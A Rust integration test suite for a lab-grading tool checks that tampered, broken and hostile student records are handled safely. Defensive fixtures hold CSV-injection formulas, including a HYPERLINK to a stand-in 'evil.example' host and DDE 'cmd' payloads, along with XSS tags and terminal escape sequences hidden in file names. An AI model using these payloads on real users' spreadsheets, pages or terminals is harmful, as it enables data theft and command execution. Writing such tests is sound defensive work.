//! `labforge grade` on a generated class: records made by real runs (right, wrong, incomplete),
//! then tampered with (edited `correct` flags), broken (corrupt, cut short, empty, another
//! format), duplicated, and one of another lab. The CSV is a golden file; the report lists
//! every record not graded with its reason and tallies the class's choices.

use serde_json::Value;
use std::path::Path;
use std::process::{Command, Stdio};

const FIXTURE: &str = "tests/inputs/run_fixture.yaml";

fn bin() -> Command {
    let mut c = Command::new(env!("CARGO_BIN_EXE_labforge"));
    c.env("NO_COLOR", "1")
        .current_dir(env!("CARGO_MANIFEST_DIR"));
    c
}

/// A real record: `labforge run --answers` with these answers (YAML), or with `stdin` typed.
fn record(lab: &str, out: &Path, answers: Option<&str>, stdin: &str) {
    std::fs::create_dir_all(out.parent().unwrap()).unwrap();
    let mut c = bin();
    c.args(["run", lab, "--restart", "--ledger", out.to_str().unwrap()])
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::null());
    let a = out.with_extension("answers.yaml");
    if let Some(text) = answers {
        std::fs::write(&a, text).unwrap();
        c.args(["--answers", a.to_str().unwrap()]);
    }
    let mut child = c.spawn().unwrap();
    use std::io::Write;
    let _ = child.stdin.take().unwrap().write_all(stdin.as_bytes());
    child.wait().unwrap();
    let _ = std::fs::remove_file(&a);
    assert!(out.exists(), "no record at {}", out.display());
}

fn edit(p: &Path, f: impl FnOnce(&mut Value)) {
    let mut v: Value = serde_json::from_str(&std::fs::read_to_string(p).unwrap()).unwrap();
    f(&mut v);
    std::fs::write(p, serde_json::to_string_pretty(&v).unwrap()).unwrap();
}

fn class(root: &Path) -> std::path::PathBuf {
    let r = root.join("records");
    let all_right = "predictions: {a: B, b: 25}\nreflections: {a: B, b: A}\ndecision_log: \"Lower variability first, <script>alert(1)</script> then buy GPUs.\"\n";
    record(FIXTURE, &r.join("alice.json"), Some(all_right), "");
    record(
        FIXTURE,
        &r.join("bob.json"),
        Some("predictions: {a: A, b: 40}\nreflections: {a: A, b: B}\ndecision_log: Buy GPUs.\n"),
        "",
    );
    // After locking in A, bob looked at B's and C's feedback: attempts, not answers.
    edit(&r.join("bob.json"), |v| {
        v["parts"]["a"]["prediction_attempts"] = serde_json::json!(["B", "C"]);
    });
    // Incomplete: part a's prediction typed, then input ends.
    record(FIXTURE, &r.join("carol/fixture.json"), None, "2\n");
    // Wrong answers whose flags were edited to say `correct`.
    record(
        FIXTURE,
        &r.join("dave.json"),
        Some("predictions: {a: C, b: 90}\nreflections: {a: A, b: B}\n"),
        "",
    );
    edit(&r.join("dave.json"), |v| {
        for p in ["a", "b"] {
            v["parts"][p]["prediction_correct"] = true.into();
            v["parts"][p]["reflection_correct"] = true.into();
        }
        v["design"]["partA_correct"] = true.into();
        v["design"]["partB_correct"] = true.into();
        v["hud"]["tier"] = "Optimal".into();
    });
    // An answer the lab does not have.
    record(FIXTURE, &r.join("erin.json"), Some(all_right), "");
    edit(&r.join("erin.json"), |v| {
        v["parts"]["a"]["prediction"] = "Z".into();
        v["decision_log"] = "Erin's own.".into();
    });
    // Broken files.
    std::fs::write(
        r.join("frank.json"),
        "{ \"format\": \"labforge-ledger/1\", oops }",
    )
    .unwrap();
    let alice = std::fs::read_to_string(r.join("alice.json")).unwrap();
    std::fs::write(r.join("gina.json"), &alice[..alice.len() / 2]).unwrap();
    std::fs::write(r.join("hal.json"), "").unwrap();
    std::fs::write(r.join("ivy.json"), "{\"format\": \"other/3\"}").unwrap();
    // The same file handed in twice, and a second record of carol.
    std::fs::write(r.join("zz-alice.json"), &alice).unwrap();
    record(FIXTURE, &r.join("carol/again.json"), None, "1\n");
    // Another lab's record.
    record(
        "tests/inputs/ok_minimal.yaml",
        &r.join("jack.json"),
        Some("predictions: {a: B}\nreflections: {a: A}\n"),
        "",
    );
    r
}

#[test]
fn a_class_is_graded_from_the_lab_never_from_the_records_flags() {
    let dir = tempfile::tempdir().unwrap();
    let records = class(dir.path());
    let out = dir.path().join("out");
    let o = bin()
        .args([
            "grade",
            FIXTURE,
            records.to_str().unwrap(),
            "-o",
            out.to_str().unwrap(),
        ])
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&o.stderr).replace(&format!("{}/", dir.path().display()), "");
    assert!(o.status.success(), "{err}");
    let csv = std::fs::read_to_string(out.join("run-fixture.csv"))
        .unwrap()
        .replace(&format!("{}/", dir.path().display()), "");
    insta::assert_snapshot!("grade_class_csv", csv);
    // Every record not graded is named with its reason.
    for (file, why) in [
        ("frank.json", "not JSON"),
        ("gina.json", "cut short"),
        ("hal.json", "empty file"),
        ("ivy.json", "a `other/3` record"),
        ("zz-alice.json", "the same record as records/alice.json"),
        ("carol/fixture.json", "a second record of `carol`"),
        ("jack.json", "a record of lab `queue-demo`"),
    ] {
        assert!(
            err.lines().any(|l| l.contains(file) && l.contains(why)),
            "no `{why}` for {file}:\n{err}"
        );
    }
    // Each through the one printer: a warning located in the record (the JSON parser's line and
    // column where it has one, the line shown), with what to do (issue 21 item 4; it was `not graded: FILE: …`).
    assert!(
        err.contains("records/frank.json:1:34: warning: not graded: not JSON: key must be a string at line 1 column 34\n  |\n1 | { \"format\": \"labforge-ledger/1\", oops }\n  |                                  ^\n  = hint: ask for the record again"),
        "{err}"
    );
    assert!(
        err.contains("records/ivy.json: warning: not graded: a `other/3` record, not `labforge-ledger/2`\n  = hint: grade reads progress records"),
        "{err}"
    );
    assert!(
        !err.contains("not graded: records/"),
        "not the old message: {err}"
    );
    let html = std::fs::read_to_string(out.join("report.html")).unwrap();
    assert!(html.contains("Content-Security-Policy"), "no CSP");
    assert!(!html.contains("<script"), "unescaped decision log");
    assert!(html.contains("&lt;script&gt;alert(1)"));
    assert!(html.contains("Records not graded (7)"), "{html}");
    // Part A's prediction: B right for alice (erin's Z dropped), A for bob, C for dave.
    let tally = html.split("Part A · prediction").nth(1).unwrap();
    let tally = &tally[..tally.find("</table>").unwrap()];
    for (id, n) in [("A", 1), ("B", 1), ("C", 1)] {
        assert!(
            tally.contains(&format!("<td>{id}</td>")) && tally.contains(&format!("value=\"{n}\"")),
            "{id}: {tally}"
        );
    }
    assert!(
        tally.contains("~600 minutes"),
        "option text at the scenario: {tally}"
    );
}

#[test]
fn nothing_to_grade_is_an_error_not_a_panic() {
    let o = bin()
        .args(["grade", FIXTURE, "/no/such/records"])
        .output()
        .unwrap();
    assert!(!o.status.success());
    assert!(String::from_utf8_lossy(&o.stderr).contains("no such file or directory"));
}

/// A course record (`labforge-course/1`, what a course's page exports) is graded lab by lab as
/// the labs' own records would be: the same rows, the file named with the lab, and an entry
/// that is not a lab's record listed with its reason while the others are graded.
#[test]
fn a_course_record_is_graded_lab_by_lab() {
    let dir = tempfile::tempdir().unwrap();
    let labs = dir.path().join("labs");
    std::fs::create_dir_all(&labs).unwrap();
    for f in [FIXTURE, "tests/inputs/ok_minimal.yaml"] {
        let from = Path::new(env!("CARGO_MANIFEST_DIR")).join(f);
        std::fs::copy(&from, labs.join(from.file_name().unwrap())).unwrap();
    }
    let own = dir.path().join("own");
    let answers = "predictions: {a: B, b: 25}\nreflections: {a: B, b: A}\ndecision_log: Lower variability first.\n";
    record(FIXTURE, &own.join("alice.json"), Some(answers), "");
    record(
        "tests/inputs/ok_minimal.yaml",
        &own.join("alice/queue.json"),
        Some("predictions: {a: B}\nreflections: {a: A}\n"),
        "",
    );
    let ledger = |p: &str| -> Value {
        serde_json::from_str(&std::fs::read_to_string(own.join(p)).unwrap()).unwrap()
    };
    let course = dir.path().join("course");
    std::fs::create_dir_all(&course).unwrap();
    let rec = serde_json::json!({
        "format": "labforge-course/1",
        "course": "demo-course",
        "labs": {
            "run-fixture": ledger("alice.json"),
            "queue-demo": ledger("alice/queue.json"),
            "broken": { "format": "other/3" },
        },
    });
    std::fs::write(course.join("alice.json"), rec.to_string()).unwrap();
    let grade = |records: &Path, out: &Path| -> String {
        let o = bin()
            .args(["grade", labs.to_str().unwrap(), records.to_str().unwrap()])
            .args(["-o", out.to_str().unwrap()])
            .output()
            .unwrap();
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        String::from_utf8_lossy(&o.stderr).into_owned()
    };
    let err = grade(&course, &dir.path().join("from-course"));
    grade(&own.join("alice.json"), &dir.path().join("from-own"));
    let csv = |out: &str, lab: &str| {
        std::fs::read_to_string(dir.path().join(out).join(format!("{lab}.csv"))).unwrap()
    };
    let from_course = csv("from-course", "run-fixture");
    let name = format!("{}", course.join("alice.json").display());
    assert!(
        from_course.contains(&format!("{name} (lab run-fixture)")),
        "{from_course}"
    );
    // The same grades as the lab's own record, file name aside.
    assert_eq!(
        from_course.replace(&format!("{name} (lab run-fixture)"), "FILE"),
        csv("from-own", "run-fixture")
            .replace(&format!("{}", own.join("alice.json").display()), "FILE")
    );
    assert!(from_course.contains("alice,"), "{from_course}");
    let queue = csv("from-course", "queue-demo");
    assert!(
        queue.lines().count() == 2 && queue.contains(&format!("{name} (lab queue-demo)")),
        "{queue}"
    );
    assert!(
        err.contains(&format!(
            "{name} (lab broken): warning: not graded: a `other/3` record"
        )),
        "{err}"
    );
    assert!(
        err.contains("graded 2 record(s) of 1 file(s) (1 not graded)"),
        "{err}"
    );
    // With several labs the roster has a row per student and lab: a lab alice handed nothing
    // in for is named as missing.
    let html = std::fs::read_to_string(dir.path().join("from-own/report.html")).unwrap();
    let roster = &html[html.find("<h2 id=\"roster\">").expect("a roster")..];
    let roster = &roster[..roster.find("</table>").unwrap()];
    let rows: Vec<&str> = roster
        .lines()
        .filter(|l| l.contains("<th scope=\"row\">alice</th>"))
        .collect();
    assert_eq!(rows.len(), 2, "{roster}");
    assert!(
        rows.iter()
            .any(|r| r.contains("Queue walk-through") && r.contains("2 / 2")),
        "{roster}"
    );
    assert!(
        rows.iter().any(|r| r.contains("class=\"unfinished\"")
            && r.contains("no record graded")
            && r.contains("Queue demo")),
        "{roster}"
    );
}

/// `labforge grade FIXTURE RECORDS -o OUT`, which must succeed; its stderr (as UTF-8: a byte
/// sequence that is not would fail the test).
fn grade_fixture(records: &Path, out: &Path) -> String {
    let o = bin()
        .args(["grade", FIXTURE])
        .arg(records)
        .arg("-o")
        .arg(out)
        .output()
        .unwrap();
    let err = String::from_utf8(o.stderr).unwrap();
    assert!(o.status.success(), "{err}");
    err
}

/// The class's rows as a spreadsheet reads the CSV (the `csv` crate parses as Excel and
/// LibreOffice do: quotes removed, doubled quotes undone, line breaks kept inside quotes).
fn read_csv(p: &Path) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_path(p)
        .unwrap()
        .records()
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect()
}

/// Would a spreadsheet read `cell` as a formula (OWASP, "CSV Injection")? It starts with `=`,
/// `+`, `-`, `@` (or their full-width forms), a tab or a carriage return, also after leading
/// spaces and double quotes; a plain number such as `-5` is a value, not a formula. A cell
/// that starts with `'` is text to a spreadsheet.
fn runs_in_a_spreadsheet(cell: &str) -> bool {
    let number = !cell.is_empty()
        && cell
            .chars()
            .all(|c| c.is_ascii_digit() || matches!(c, '-' | '+' | '.' | 'e' | 'E'))
        && cell.parse::<f64>().is_ok_and(f64::is_finite);
    let lead = cell.trim_start_matches(|c: char| c.is_whitespace() || c == '"');
    !number
        && (cell.starts_with(['\t', '\r'])
            || lead.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']))
}

/// Student names (folder names) and decision logs carrying every prefix a spreadsheet runs:
/// the CSV neutralises each with a leading `'` and keeps the rest of the student's text as it
/// was; a negative numeric answer stays a number.
#[test]
fn no_cell_of_the_csv_runs_as_a_formula() {
    let dir = tempfile::tempdir().unwrap();
    let r = dir.path().join("records");
    let answers = "predictions: {a: B, b: 25}\nreflections: {a: B, b: A}\n";
    let hostile = [
        (
            "=1+2",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click for your grade\")",
        ),
        ("+1+2", "+cmd|' /C calc'!A0"),
        ("-1+2", "-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+2)", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+2", "\t=1+1"),
        ("\r=1+2", "\r=1+1"),
        (" =1+2", "   =1+1"),
        ("\"=1+2", "\"=1+1\""),
        ("＝1+2", "＋1+1"),
    ];
    for (name, log) in hostile {
        let p = r.join(name).join("lab.json");
        record(FIXTURE, &p, Some(answers), "");
        edit(&p, |v| v["decision_log"] = log.into());
    }
    let neg = r.join("neg.json");
    record(FIXTURE, &neg, Some(answers), "");
    edit(&neg, |v| v["parts"]["b"]["prediction"] = "-5".into());
    let out = dir.path().join("out");
    grade_fixture(&r, &out);
    let rows = read_csv(&out.join("run-fixture.csv"));
    assert_eq!(rows.len(), 1 + hostile.len() + 1, "{rows:?}");
    for cell in rows.iter().flatten() {
        assert!(!runs_in_a_spreadsheet(cell), "a formula: {cell:?}");
    }
    let col = |name: &str| rows[0].iter().position(|h| h == name).unwrap();
    let (log, b) = (col("decision log"), col("B prediction"));
    for (name, text) in hostile {
        let row = rows
            .iter()
            .find(|row| row[0] == format!("'{name}"))
            .unwrap_or_else(|| panic!("no row for {name:?}: {rows:?}"));
        assert_eq!(row[log], format!("'{text}"), "{name:?}");
        assert_eq!(row[3], "2", "{name:?}: {row:?}");
    }
    let neg = rows.iter().find(|row| row[0] == "neg").unwrap();
    assert_eq!(neg[b], "-5", "{neg:?}");
    assert_eq!(
        python_formulas(&out.join("run-fixture.csv")),
        Some(Vec::new())
    );
}

/// The cells Python's `csv` module (the reader the issue names) reads as a spreadsheet formula:
/// a first character (after blanks and quotes) of `= + - @` or their full-width forms, or a tab
/// or carriage return, in a cell that is not a plain number. `None` without python3.
fn python_formulas(csv: &Path) -> Option<Vec<String>> {
    let script = r#"
import csv, sys
bad = []
for row in csv.reader(open(sys.argv[1], newline="", encoding="utf-8")):
    for cell in row:
        try:
            float(cell)
            continue
        except ValueError:
            pass
        lead = cell.lstrip(' "')
        if cell[:1] in ("\t", "\r") or lead[:1] in ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"):
            bad.append(cell)
print("\n".join(repr(c) for c in bad))
"#;
    let o = Command::new("python3")
        .args(["-c", script])
        .arg(csv)
        .output()
        .ok()?;
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    Some(
        String::from_utf8(o.stdout)
            .unwrap()
            .lines()
            .filter(|l| !l.is_empty())
            .map(str::to_string)
            .collect(),
    )
}

/// OSC 52 (writes the clipboard), OSC 0 (the window title), `ESC[2J` (clears the screen), a
/// one-character CSI and a bidi override, in a student's folder name, a record's `lab` and
/// `format` fields and a file name: stderr carries none of them and still names each record.
#[test]
fn record_text_reaches_the_terminal_only_through_the_filter() {
    const ESC: &str = "\x1b]52;c;aGk=\x07\x1b]0;owned\x07\x1b[2J\u{9b}31m\u{202E}";
    let dir = tempfile::tempdir().unwrap();
    let r = dir.path().join("records");
    let answers = "predictions: {a: B, b: 25}\nreflections: {a: B, b: A}\n";
    let p = r.join(format!("mallory{ESC}")).join("lab.json");
    record(FIXTURE, &p, Some(answers), "");
    edit(&p, |v| v["lab"] = format!("evil{ESC}").into());
    let q = r.join("oscar.json");
    record(FIXTURE, &q, Some(answers), "");
    edit(&q, |v| v["format"] = format!("other{ESC}").into());
    std::fs::write(r.join(format!("trent{ESC}.json")), "not json").unwrap();
    let err = grade_fixture(&r, &dir.path().join("out"));
    for bad in ['\x1b', '\x07', '\u{9b}', '\u{202E}'] {
        assert!(
            !err.contains(bad),
            "U+{:04X} on stderr: {err:?}",
            bad as u32
        );
    }
    for (file, why) in [
        ("mallory", "a record of lab `evil"),
        ("oscar.json", "a `other"),
        ("trent", "not JSON"),
    ] {
        assert!(
            err.lines().any(|l| l.contains(": warning: not graded: ")
                && l.contains(file)
                && l.contains(why)),
            "no `{why}` for {file}: {err:?}"
        );
    }
    assert!(
        err.contains("graded 0 record(s) of 3 file(s) (3 not graded)"),
        "{err:?}"
    );
}

/// The report opens with a roster: every student who handed anything in, graded or not, with
/// completion, score and what is missing, so an unfinished student is named; names are text.
#[test]
fn the_report_opens_with_a_roster_naming_every_unfinished_student() {
    let dir = tempfile::tempdir().unwrap();
    let records = class(dir.path());
    let html_name = "<img src=x onerror=alert(1)>";
    record(
        FIXTURE,
        &records.join(html_name).join("lab.json"),
        None,
        "1\n",
    );
    record(FIXTURE, &records.join("Dana.json"), None, "1\n");
    let out = dir.path().join("out");
    grade_fixture(&records, &out);
    let html = std::fs::read_to_string(out.join("report.html")).unwrap();
    assert!(!html.contains("<img"), "unescaped name");
    let at = html.find("<h2 id=\"roster\">").expect("a roster");
    assert!(
        at < html.find("Records not graded").unwrap() && at < html.find("Part A ·").unwrap(),
        "the roster is not first"
    );
    let roster = &html[at..];
    let roster = &roster[..roster.find("</table>").unwrap()];
    let row = |student: &str| -> &str {
        let cell = format!("<th scope=\"row\">{student}</th>");
        let line = roster
            .lines()
            .find(|l| l.contains(&cell))
            .unwrap_or_else(|| panic!("{student} is not in the roster: {roster}"));
        line
    };
    // In name order as a TA reads names: case aside (`Dana` between `carol` and `dave`).
    let order: Vec<String> = roster
        .lines()
        .filter_map(|l| l.split("<th scope=\"row\">").nth(1))
        .map(|l| l[..l.find("</th>").unwrap()].to_lowercase())
        .collect();
    let mut sorted = order.clone();
    sorted.sort();
    assert_eq!(order, sorted);
    assert!(
        order.len() == 13 && order.contains(&"dana".to_string()),
        "{order:?}"
    );
    let done = row("alice");
    assert!(done.contains("yes") && done.contains("2 / 2"), "{done}");
    let carol = row("carol");
    assert!(carol.contains("class=\"unfinished\""), "{carol}");
    assert!(
        carol.contains("Part A: reflection") && carol.contains("Part B: prediction, reflection"),
        "{carol}"
    );
    assert!(
        row("erin").contains("Part A: prediction"),
        "{}",
        row("erin")
    );
    assert!(row("dave").contains("0 / 2"), "{}", row("dave"));
    let hostile = row("&lt;img src=x onerror=alert(1)&gt;");
    assert!(hostile.contains("Part A: reflection"), "{hostile}");
    // Students whose every record was refused are named with the reason.
    for (student, why) in [
        ("frank", "not JSON"),
        ("hal", "empty file"),
        ("zz-alice", "the same record as"),
        ("jack", "a record of lab `queue-demo`"),
    ] {
        let r = row(student);
        assert!(
            r.contains("class=\"unfinished\"") && r.contains("no record graded") && r.contains(why),
            "{student}: {r}"
        );
    }
    let names = roster
        .split("Not finished (")
        .nth(1)
        .and_then(|s| s.split_once("): "))
        .map(|(_, s)| &s[..s.find("</p>").unwrap()])
        .expect("the unfinished named first");
    let names: Vec<&str> = names.split(", ").collect();
    for s in ["carol", "erin", "frank", "jack", "zz-alice"] {
        assert!(names.contains(&s), "{s} not named: {names:?}");
    }
    assert!(
        !names.contains(&"alice") && !names.contains(&"bob"),
        "{names:?}"
    );
}

/// What stops `grade` reaches the one printer located, with a hint (issue 21 item 4): an
/// instructor's report template that does not parse, at its line and column with the line and
/// a caret (it was `error: report.html.j2: …` with minijinja's own text), and a records path
/// that is not there, as a diagnostic of that path.
#[test]
fn what_stops_grade_is_a_located_diagnostic() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out");
    // `grade FIXTURE RECORDS -o OUT ARGS`, which fails: its standard error.
    let failing = |records: &Path, args: &[&Path]| {
        let o = bin()
            .args(["grade", FIXTURE])
            .arg(records)
            .arg("-o")
            .arg(&out)
            .args(args)
            .output()
            .unwrap();
        let err = String::from_utf8_lossy(&o.stderr).into_owned();
        assert!(!o.status.success(), "{err}");
        err
    };
    let records = class(dir.path());
    let tpl = dir.path().join("tpl");
    let broken = "<html>\n{% for p in problems %}\n{{ p.file }\n";
    std::fs::create_dir_all(&tpl)
        .and_then(|()| std::fs::write(tpl.join("report.html.j2"), broken))
        .unwrap();
    let err = failing(&records, &[Path::new("--templates"), &tpl]);
    let file = tpl.join("report.html.j2").display().to_string();
    assert!(
        err.contains(&format!(
            "{file}:3:11: error: syntax error: unexpected `}}`, expected end of variable block\n  |\n3 | {{{{ p.file }}\n  |           ^\n  = hint: this is your template (--templates {})",
            tpl.display()
        )),
        "{err}"
    );
    let missing = dir.path().join("nowhere");
    let err = failing(&missing, &[]);
    assert!(
        err.starts_with(&format!(
            "{}: error: no such file or directory\n  = hint: give grade the records handed in",
            missing.display()
        )),
        "{err}"
    );
}
